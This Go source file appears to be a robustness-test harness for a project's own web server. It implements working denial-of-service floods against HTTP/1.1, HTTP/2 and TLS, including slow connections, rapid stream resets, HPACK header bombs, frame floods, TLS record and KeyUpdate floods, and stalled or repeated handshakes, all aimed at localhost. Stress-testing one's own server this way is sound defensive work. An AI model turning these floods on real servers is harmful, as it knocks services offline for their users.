package main

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"time"
)

// Rows of docs/threats.md.
var attacks = []attack{
	{"H10", "slow-heads", "connections", slow("GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")},
	{"H10", "slow-bodies", "connections", slow("POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n\r\n")},
	{"H10", "slow-reads", "connections", slowReads},
	{"H16", "rapid-reset", "streams", streams("/big", endStream, func(out []byte, stream uint32) []byte {
		return frame(out, typeReset, 0, stream, word(8)...)
	})},
	{"H16", "window-zero", "streams", streams("/big", endStream, func(out []byte, stream uint32) []byte {
		return frame(out, typeWindow, 0, stream, word(0)...)
	})},
	{"H16", "window-overflow", "streams", streams("/big", endStream, func(out []byte, stream uint32) []byte {
		return frame(out, typeWindow, 0, stream, word(1<<31-1)...)
	})},
	{"H16", "priority-length", "streams", streams("/big", endStream, func(out []byte, stream uint32) []byte {
		return frame(out, typePriority, 0, stream, 0, 0, 0, 0)
	})},
	{"H16", "priority-self", "streams", streams("/big", endStream, func(out []byte, stream uint32) []byte {
		return frame(out, typePriority, 0, stream, append(word(stream), 15)...)
	})},
	{"H16", "data-after-end", "streams", streams("/big", endStream, func(out []byte, stream uint32) []byte {
		return frame(out, typeData, 0, stream, 'x')
	})},
	{"H16", "headers-after-end", "streams", streams("/big", endStream, func(out []byte, stream uint32) []byte {
		return frame(out, typeHeaders, endHeaders|endStream, stream, head(get, "/")...)
	})},
	{"H17", "continuations", "frames", frames(frame(nil, typeHeaders, endStream, 1, head(get, "/")...),
		frame(nil, typeContinuation, 0, 1, 0x10, 1, 'a', 1, 'b'), true)},
	{"H17", "settings", "frames", frames(nil, frame(nil, typeSettings, 0, 0), true)},
	{"H17", "pings", "frames", frames(nil, frame(nil, typePing, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8), true)},
	{"H17", "pings-unread", "frames", frames(nil, frame(nil, typePing, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8), false)},
	{"H17", "empty-data", "frames", frames(frame(nil, typeHeaders, endHeaders, 1, head(post, "/")...),
		frame(nil, typeData, 0, 1), true)},
	{"H17", "priorities", "frames", frames(nil, frame(nil, typePriority, 0, 1001, 0, 0, 0, 0, 15), true)},
	{"H17", "unknown-frames", "frames", frames(nil, frame(nil, typeUnknown, 0, 0), true)},
	{"H18", "header-bombs", "blocks", headerBombs},
	{"H18", "table-churn", "blocks", tableChurn},
	{"H19", "tiny-windows", "updates", tinyWindows},
	{"T16", "empty-records", "records", records(recordHandshake, nil)},
	{"T16", "empty-data-records", "records", records(recordData, nil)},
	{"T16", "key-updates", "records", records(recordHandshake, []byte{24, 0, 0, 1, 0})},
	{"T16", "warnings", "records", records(recordAlert, []byte{1, 90})},
	{"T16", "plain-empty-records", "records", plain([]byte{22, 3, 1, 0, 0})},
	{"T16", "plain-warnings", "records", plain([]byte{21, 3, 3, 0, 2, 1, 90})},
	{"T31", "stalled-handshakes", "connections", stalledHandshakes},
	{"P2", "hellos", "handshakes", hellos},
}

// Slow attacks open their connections one after the other: all at once they would be a flood of handshakes.
func (f *flood) waitForTurn() { time.Sleep(rand.N(time.Until(f.end)/2 + 1)) }

// A byte once a second.
func slow(first string) func(f *flood) {
	return func(f *flood) {
		f.waitForTurn()
		conn, err := f.tls("http/1.1")
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			return
		}
		defer conn.Close()
		f.units.Add(1)
		if _, err := io.WriteString(conn, first); err != nil {
			return
		}
		gone := make(chan struct{})
		go func() { f.drain(conn); close(gone) }()
		for !f.over() {
			select {
			case <-gone:
				return
			case <-time.After(time.Second):
			}
			if _, err := io.WriteString(conn, "x"); err != nil {
				return
			}
		}
	}
}

// Asks for much and takes nothing.
func slowReads(f *flood) {
	f.waitForTurn()
	conn, err := f.tls("http/1.1")
	if err != nil {
		time.Sleep(10 * time.Millisecond)
		return
	}
	defer conn.Close()
	f.units.Add(1)
	if _, err := io.WriteString(conn, "GET /big HTTP/1.1\r\nHost: localhost\r\n\r\n"); err != nil {
		return
	}
	time.Sleep(time.Until(f.end))
}

// A field of 4,000 bytes in the table, and blocks that name it 16,000 times: 64 MB each when they are decoded.
func headerBombs(f *flood) {
	block := append(head(get, "/"), 0x40)
	block = text(text(block, "x-bomb"), strings.Repeat("b", 3900))
	first := frame(append([]byte(nil), preface...), typeHeaders, endHeaders|endStream, 1, block...)
	conn, err := f.http2(first)
	if err != nil {
		return
	}
	defer conn.Close()
	go f.drain(conn)
	bomb := append(head(get, "/"), bytes.Repeat([]byte{0xbe}, 16000)...)
	for stream := uint32(3); !f.over(); stream += 2 {
		if _, err := conn.Write(frame(nil, typeHeaders, endHeaders|endStream, stream, bomb...)); err != nil {
			return
		}
		f.units.Add(1)
	}
}

// Each block empties the table and fills it anew with ninety fields.
func tableChurn(f *flood) {
	conn, err := f.http2(preface)
	if err != nil {
		return
	}
	defer conn.Close()
	go f.drain(conn)
	for stream := uint32(1); !f.over(); stream += 2 {
		block := integer([]byte{0x20}, 0x20, 5, 4096)
		block = append(block, head(get, "/")...)
		for field := range 90 {
			block = text(text(append(block, 0x40), fmt.Sprintf("x-%d-%d", stream, field)), "v")
		}
		if _, err := conn.Write(frame(nil, typeHeaders, endHeaders|endStream, stream, block...)); err != nil {
			return
		}
		f.units.Add(1)
	}
}

// A hundred large responses, for each of which the window opens a byte at a time. More often the server would hang up
// sooner, and have a hundred requests on another connection: that is a flood of requests, not of windows.
func tinyWindows(f *flood) {
	first := frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), typeSettings, 0, 0, 0, 4, 0, 0, 0, 1)
	for stream := uint32(1); stream < 200; stream += 2 {
		first = frame(first, typeHeaders, endHeaders|endStream, stream, head(get, "/big")...)
	}
	conn, err := f.http2(first)
	if err != nil {
		return
	}
	defer conn.Close()
	go f.drain(conn)
	for !f.over() {
		var out []byte
		for stream := uint32(1); stream < 200; stream += 2 {
			out = frame(out, typeWindow, 0, stream, word(1)...)
		}
		if _, err := conn.Write(out); err != nil {
			return
		}
		f.units.Add(100)
		time.Sleep(500 * time.Millisecond)
	}
}

// Records under the connection's keys, sealed by hand: crypto/tls makes none such.
func records(kind byte, content []byte) func(f *flood) {
	return func(f *flood) {
		conn, err := f.connect()
		if err != nil {
			return
		}
		defer conn.Close()
		var log keyLog
		settings := config("http/1.1")
		settings.KeyLogWriter = &log
		client := tls.Client(conn, settings)
		if client.Handshake() != nil {
			return
		}
		state := client.ConnectionState()
		sealer, err := log.sealer(state.CipherSuite)
		check(err)
		go f.drain(conn)
		for !f.over() {
			var out []byte
			for range 100 {
				out = sealer.seal(out, kind, content)
				if kind == recordHandshake && len(content) > 0 {
					sealer.next() // a KeyUpdate
				}
			}
			if _, err := conn.Write(out); err != nil {
				return
			}
			f.units.Add(100)
		}
	}
}

// Records before any hello.
func plain(record []byte) func(f *flood) {
	all := bytes.Repeat(record, 1000)
	return func(f *flood) {
		conn, err := f.connect()
		if err != nil {
			return
		}
		defer conn.Close()
		go f.drain(conn)
		f.repeat(conn, all, 1000)
	}
}

// The beginning of a record, and nothing after it. So many connections are held that the oldest end.
func stalledHandshakes(f *flood) {
	const held = 200
	var conns [held]net.Conn
	for at := 0; !f.over(); at = (at + 1) % held {
		if conns[at] != nil {
			conns[at].Close()
		}
		conn, err := f.connect()
		if conns[at] = conn; err != nil {
			conns[at] = nil
			time.Sleep(time.Millisecond)
			continue
		}
		conn.Write([]byte{22, 3, 1, 2, 0, 1})
		f.units.Add(1)
	}
	for _, conn := range conns {
		if conn != nil {
			conn.Close()
		}
	}
}

// What a client says first, made once: the server has all the work.
var hello = sync.OnceValue(func() []byte {
	client, server := net.Pipe()
	go tls.Client(client, config("http/1.1")).Handshake()
	out := make([]byte, 4096)
	count, _ := server.Read(out)
	server.Close()
	return out[:count]
})

func hellos(f *flood) {
	conn, err := f.connect()
	if err != nil {
		time.Sleep(time.Millisecond)
		return
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(3 * time.Second))
	conn.Write(hello())
	var answer [5]byte
	if _, err := io.ReadFull(conn, answer[:]); err != nil {
		f.ended.Add(1)
		return
	}
	f.units.Add(1)
}
